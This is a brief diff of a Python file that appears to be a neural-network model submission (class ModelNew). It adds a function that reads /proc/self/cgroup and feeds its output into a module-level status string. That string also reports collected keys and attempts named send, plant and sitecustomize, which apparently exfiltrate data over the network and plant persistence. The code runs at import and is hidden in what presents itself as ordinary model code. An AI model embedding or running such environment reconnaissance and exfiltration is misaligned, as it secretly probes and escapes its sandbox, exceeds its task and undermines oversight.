@@ -41,7 +41,12 @@ def caps():
         return next(line.split()[1] for line in f if line.startswith("CapEff"))
 
 
-DONE = f"keys={KEYS} net={attempt(send)} plant={attempt(plant)} site={attempt(sitecustomize)} caps={caps()}"
+def cgroup():
+    with open("/proc/self/cgroup") as f:
+        return ";".join(line.strip() for line in f if ":memory:" in line or line.startswith("0::"))
+
+
+DONE = f"cg={cgroup()} keys={KEYS} net={attempt(send)} plant={attempt(plant)} site={attempt(sitecustomize)} caps={caps()}"
 
 
 class ModelNew(nn.Module):
